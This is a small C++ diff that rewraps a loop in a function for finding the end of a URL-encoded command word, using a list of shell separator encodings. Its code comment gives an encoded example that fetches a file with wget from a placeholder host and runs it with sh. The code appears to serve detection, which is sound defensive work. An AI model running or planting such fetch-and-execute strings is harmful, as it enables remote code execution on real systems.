@@ -21,7 +21,8 @@ constexpr auto kSchemes = std::to_array<std::string_view>(
 // "wget%20http://a.example/b%3B%20sh%20b": of a command that a request carries, to the end of its word.
 std::size_t encoded_word(std::string_view url) {
   std::size_t end = url.size();
-  for (const std::string_view mark : {";", "`", "%20", "%3B", "%3b", "%7C", "%7c", "%26", "%22", "%27", "%60", "%0A", "%0a"})
+  for (const std::string_view mark :
+       {";", "`", "%20", "%3B", "%3b", "%7C", "%7c", "%26", "%22", "%27", "%60", "%0A", "%0a"})
     end = std::min(end, url.find(mark));
   return end;
 }
